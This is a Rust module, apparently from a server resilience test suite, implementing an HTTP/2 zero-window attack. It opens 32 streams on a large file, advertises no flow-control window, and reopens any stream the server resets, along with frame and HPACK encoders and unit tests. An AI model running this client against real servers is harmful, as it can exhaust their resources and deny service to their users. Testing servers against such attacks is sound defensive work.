//! Attacks by HTTP/2: requests files on many streams, with a flow-control window of zero bytes.

use std::io;

use anyhow::{Result, ensure};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::attack::HostileClient;
use super::outside::DialOptions;
use super::stage::LARGE_FILE;

/// First bytes of a client's connection. Source: RFC 9113 section 3.4.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Streams of one connection, as many as the realm allows.
const STREAMS: u32 = 32;
/// Frame types of RFC 9113 section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
/// The flags of a request without a body: END_STREAM and END_HEADERS.
const WHOLE_REQUEST: u8 = 0x5;
/// Acknowledges SETTINGS and PING.
const ACK: u8 = 1;
/// SETTINGS_INITIAL_WINDOW_SIZE of zero.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Length of a frame's head.
const HEAD_BYTES: usize = 9;
/// The largest frame without another setting.
const FRAME_BYTES_MAX: usize = 16 * 1_024;

/// Opens all streams and keeps them open. A stream that the realm resets is opened again.
pub(super) async fn withhold_window(client: &HostileClient) -> Result<()> {
    let options = DialOptions { protocol: Some("h2"), ..DialOptions::of(client.from) };
    let mut stream = client.server.dial(client.server.https, &options).await?;
    let request = header_block(LARGE_FILE, client.server.https.port());
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &NO_WINDOW));
    for number in 0..STREAMS {
        opening.extend(frame(HEADERS, WHOLE_REQUEST, 2 * number + 1, &request));
        client.tally.count(request.len());
    }
    stream.write_all(&opening).await?;
    stream.flush().await?;
    let mut next = 2 * STREAMS + 1;
    loop {
        let mut head = [0; HEAD_BYTES];
        stream.read_exact(&mut head).await?;
        let [high, middle, low, kind, flags, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
        ensure!(payload.len() <= FRAME_BYTES_MAX, "a frame of {} bytes", payload.len());
        stream.read_exact(&mut payload).await?;
        let reply = match kind {
            SETTINGS if flags & ACK == 0 => frame(SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(PING, ACK, 0, &payload),
            RST_STREAM => {
                client.tally.fail();
                // The realm counts a stream as open for a moment longer than the client.
                tokio::time::sleep(client.period).await;
                client.tally.count(request.len());
                next += 2;
                frame(HEADERS, WHOLE_REQUEST, next - 2, &request)
            }
            GOAWAY => return Err(io::Error::from(io::ErrorKind::ConnectionAborted).into()),
            _ => continue,
        };
        stream.write_all(&reply).await?;
        stream.flush().await?;
    }
}

/// Encodes a frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A GET in HPACK (RFC 7541) without dynamic table and Huffman coding. Texts have less than 127 bytes.
fn header_block(path: &str, port: u16) -> Vec<u8> {
    // The static table has `:method: GET` at 2, `:scheme: https` at 7, `:path` at 4 and `:authority` at 1.
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(4, path), (1, &*format!("localhost:{port}"))] {
        block.extend([name, value.len() as u8 & 0x7f]);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_header_contains_its_length_and_stream() {
        assert_eq!(frame(SETTINGS, 0, 0, &NO_WINDOW), [0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
        assert_eq!(frame(HEADERS, WHOLE_REQUEST, 258, &[7; 300])[..HEAD_BYTES], [0, 1, 44, 1, 5, 0, 0, 1, 2]);
    }

    #[test]
    fn a_request_names_its_path_and_the_host() {
        let block = header_block("/store/a", 80);
        assert_eq!(block[..4], [0x82, 0x87, 4, 8]);
        assert_eq!(block[4..12], *b"/store/a");
        assert_eq!(block[12..], *b"\x01\x0clocalhost:80");
        assert!(LARGE_FILE.len() < 127, "a longer text needs another length");
    }
}
